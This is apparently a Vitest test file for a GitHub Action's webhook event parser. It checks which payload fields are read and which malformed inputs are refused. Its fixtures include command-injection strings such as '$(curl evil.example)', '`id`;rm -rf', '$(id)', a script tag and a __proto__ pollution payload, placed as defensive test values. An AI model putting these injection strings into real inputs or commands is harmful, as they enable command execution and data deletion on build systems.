import { describe, expect, it } from 'vitest';
import { type ActionEvent, LONGEST_EVENT, readEvent } from '../../../src/action/event.ts';

const [HEAD, BASE] = ['d'.repeat(40), 'a'.repeat(40)];
type Json = { readonly [key: string]: unknown };

/** A payload as GitHub sends it, with fields that must not matter. */
function pull(more: Json = {}, rest: Json = {}): Json {
  return {
    action: 'synchronize',
    number: 12,
    pull_request: {
      number: 12,
      title: '$(curl evil.example)',
      body: '@everyone <script>',
      draft: false,
      user: { login: 'ada', id: 101 },
      head: { ref: '`id`;rm -rf', sha: HEAD, repo: { id: 4242, full_name: 'acme/access' } },
      base: { ref: 'main', sha: BASE, repo: { id: 4242 } },
      ...more,
    },
    repository: { id: 4242, full_name: 'acme/access' },
    ...rest,
  };
}

const FACTS = {
  repository_id: 4242,
  number: 12,
  action: 'synchronize',
  head_sha: HEAD,
  base_sha: BASE,
  head_repo_id: 4242,
  base_ref: 'main',
  is_fork: false,
  author: 'ada',
  draft: false,
} as const;

const head = (more: Json): Json => ({ head: { ref: 'x', sha: HEAD, repo: { id: 4242 }, ...more } });

describe('what is read of an event', () => {
  it.each<[string, string, Json, ActionEvent]>([
    ['a pull request', 'pull_request', pull(), { name: 'pull_request', ...FACTS }],
    ['one on trusted code', 'pull_request_target', pull(), { name: 'pull_request_target', ...FACTS }],
    ['a review', 'pull_request_review', pull(), { name: 'pull_request_review', ...FACTS }],
    [
      'a fork',
      'pull_request_target',
      pull(head({ repo: { id: 9 } })),
      { name: 'pull_request_target', ...FACTS, head_repo_id: 9, is_fork: true },
    ],
    [
      'a fork that is gone',
      'pull_request_target',
      pull(head({ repo: null })),
      { name: 'pull_request_target', ...FACTS, head_repo_id: null, is_fork: true },
    ],
    [
      'a draft by somebody who is gone',
      'pull_request',
      pull({ draft: true, user: null }),
      { name: 'pull_request', ...FACTS, draft: true, author: null },
    ],
    [
      'an app as author',
      'pull_request',
      pull({ user: { login: 'renovate[bot]' } }),
      { name: 'pull_request', ...FACTS, author: 'renovate[bot]' },
    ],
    [
      'the end of another workflow',
      'workflow_run',
      {
        action: 'completed',
        repository: { id: 501 },
        workflow_run: {
          event: 'pull_request_review',
          conclusion: 'success',
          head_sha: HEAD,
          head_branch: '`x`',
          pull_requests: [
            { number: 12, id: 1, base: { repo: { id: 501 } } },
            { number: 13, id: 2, base: { repo: { id: 502 } } },
          ],
        },
      },
      {
        name: 'workflow_run',
        event: 'pull_request_review',
        conclusion: 'success',
        head_sha: HEAD,
        pull_requests: [12],
      },
    ],
    [
      'the same for a fork, before it is over',
      'workflow_run',
      {
        repository: { id: 501 },
        workflow_run: { event: 'pull_request_review', conclusion: null, head_sha: HEAD, pull_requests: [] },
      },
      {
        name: 'workflow_run',
        event: 'pull_request_review',
        conclusion: null,
        head_sha: HEAD,
        pull_requests: [],
      },
    ],
    [
      'a merge queue',
      'merge_group',
      {
        merge_group: {
          head_sha: HEAD,
          base_sha: BASE,
          head_ref: `refs/heads/gh-readonly-queue/main/pr-12-${BASE}`,
          base_ref: 'refs/heads/main',
        },
      },
      {
        name: 'merge_group',
        head_sha: HEAD,
        base_sha: BASE,
        head_ref: `refs/heads/gh-readonly-queue/main/pr-12-${BASE}`,
      },
    ],
    [
      'a push',
      'push',
      { ref: 'refs/heads/main', before: BASE, after: HEAD, commits: [{ message: '::error::' }] },
      { name: 'push', ref: 'refs/heads/main', before: BASE, after: HEAD },
    ],
    ['a schedule', 'schedule', { schedule: '7 5 * * *' }, { name: 'schedule' }],
    ['a start by hand', 'workflow_dispatch', { inputs: { x: '$(id)' } }, { name: 'workflow_dispatch' }],
  ])('%s', (_, name, payload, event) => {
    expect(readEvent(name, JSON.stringify(payload))).toEqual(event);
  });
});

describe('what is refused', () => {
  it.each<[string, string, unknown, string, string]>([
    ['another event', 'issue_comment', {}, 'RC581', 'rollcall does nothing on the event issue_comment'],
    ['a list', 'push', [], 'RC580', 'the file is no object'],
    ['null', 'schedule', null, 'RC580', 'the file is no object'],
    ['no pull request', 'pull_request', { action: 'opened' }, 'RC580', 'pull_request is no object'],
    ['number 0', 'pull_request', pull({ number: 0 }), 'RC580', 'pull_request.number is not a whole number'],
    ['a number as text', 'pull_request', pull({ number: '12' }), 'RC580', 'pull_request.number'],
    [
      'half a commit id',
      'pull_request',
      pull(head({ sha: 'd'.repeat(39) })),
      'RC580',
      'pull_request.head.sha',
    ],
    ['a commit id with an end', 'pull_request', pull(head({ sha: `${HEAD}\n` })), 'RC580', 'head.sha'],
    [
      'a login with markup',
      'pull_request',
      pull({ user: { login: '<b>' } }),
      'RC580',
      'pull_request.user.login',
    ],
    ['a draft that is text', 'pull_request', pull({ draft: 'yes' }), 'RC580', 'pull_request.draft'],
    ['no repository', 'pull_request', pull({}, { repository: null }), 'RC580', 'repository is no object'],
    [
      'an action that is no word',
      'pull_request',
      pull({}, { action: 'a b' }),
      'RC580',
      'action is not a word',
    ],
    [
      'a list of pull requests that is none',
      'workflow_run',
      {
        repository: { id: 501 },
        workflow_run: { event: 'x', conclusion: null, head_sha: HEAD, pull_requests: { length: 1 } },
      },
      'RC580',
      'workflow_run.pull_requests is not a list',
    ],
    [
      'an inherited field',
      'push',
      JSON.parse('{"__proto__": {"ref": "refs/heads/main"}}'),
      'RC580',
      'ref is not',
    ],
  ])('%s', (_, name, payload, code, message) => {
    expect(() => readEvent(name, JSON.stringify(payload))).toThrow(
      expect.objectContaining({ code, message: expect.stringContaining(message), hint: expect.anything() }),
    );
  });

  it.each(['', '{', 'undefined', '{"ref": 1}}'])('what is not JSON: %j', (json) => {
    expect(() => readEvent('push', json)).toThrow(expect.objectContaining({ code: 'RC580' }));
  });

  it('a file larger than GitHub makes them', () => {
    expect(() => readEvent('schedule', ' '.repeat(LONGEST_EVENT + 1))).toThrow(/larger/);
  });
});

describe('names of branches', () => {
  const read = (ref: string): ActionEvent =>
    readEvent('pull_request', JSON.stringify(pull({ base: { ref, sha: BASE } })));

  it.each(['main', 'release/1.2', 'a', 'fix#12', 'Ünï/山田', 'v1.0-rc+1'])('%s is one', (ref) => {
    expect(read(ref)).toMatchObject({ base_ref: ref });
  });

  it.each([
    '',
    '-main',
    '/main',
    'main/',
    'main.',
    'a..b',
    'a//b',
    'a/.b',
    'a.lock',
    'a.lock/b',
    'a@{1}',
    'a b',
    'a\n',
    '$(id)',
    '`id`',
    'a;b',
    'a|b',
    'a"b',
    "a'b",
    '<b>',
    'a:b',
    'a\\b',
    'a~1',
    'a\u202eb',
    'x'.repeat(300),
  ])('%j is none', (ref) => {
    expect(() => read(ref)).toThrow(expect.objectContaining({ code: 'RC580' }));
  });

  it.each(['main', 'refs/pull/12/merge', 'refs/heads/', 'refs/heads/a b', 'refs/heads/a\n'])(
    '%j is no full name',
    (ref) => {
      expect(() => readEvent('push', JSON.stringify({ ref, before: BASE, after: HEAD }))).toThrow(
        /ref is not/,
      );
    },
  );
});
